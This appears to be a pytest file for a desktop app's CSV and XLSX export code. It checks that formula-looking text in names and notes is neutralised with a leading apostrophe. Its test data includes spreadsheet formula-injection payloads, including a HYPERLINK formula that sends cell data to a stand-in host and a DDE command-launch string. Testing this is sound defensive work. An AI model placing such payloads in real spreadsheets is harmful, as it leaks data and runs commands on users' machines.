"""CSV and XLSX exports never hand Excel a formula typed into a name or a note."""

from __future__ import annotations

import csv
import io

import pytest

from desktop.domain.spreadsheet import safe_cell
from desktop.store.export import write_export

ATTACKS = ['=HYPERLINK("http://evil.example?"&A2,"Натисніть")', "=1+1", "+1+1", "-1+1",
           "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_looking_text_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["+380 67 123 45 67", "+380671234567", "-5", "Коваль",
                                   "", None, 12, "a=b"])
def test_ordinary_values_are_left_alone(value):
    assert safe_cell(value) == value


def test_a_csv_export_of_people_carries_no_formula(store):
    for number, text in enumerate(ATTACKS):
        store.insert("people", {"last_name": f"Коваль{number}", "first_name": "Олена",
                                "gender": "female", "notes": text})
    out = io.StringIO()
    write_export(store.conn, "people", "csv", out)
    notes = [row["notes"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
    # the store keeps text trimmed (the domain's rules): a leading tab or CR is gone, the
    # formula after it is not
    assert sorted(notes) == sorted("'" + t.strip() for t in ATTACKS)
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in notes)


def test_an_xlsx_report_cell_is_text_not_a_formula(tmp_path):
    import openpyxl

    from desktop.domain.report_table import TEXT, Column, Report, Section, Table
    from desktop.reporting.xlsx import write_xlsx

    table = Table("Люди", (Column("Імʼя", TEXT),), (("=1+1",), ("@SUM(A1)",)))
    report = Report("Звіт", "Офіс", "2026", "сьогодні", (Section("people", "Люди", (table,)),))
    target = tmp_path / "r.xlsx"
    write_xlsx(report, target)
    sheet = openpyxl.load_workbook(target).worksheets[-1]
    values = [c.value for row in sheet.iter_rows() for c in row if c.value]
    assert "'=1+1" in values and "'@SUM(A1)" in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
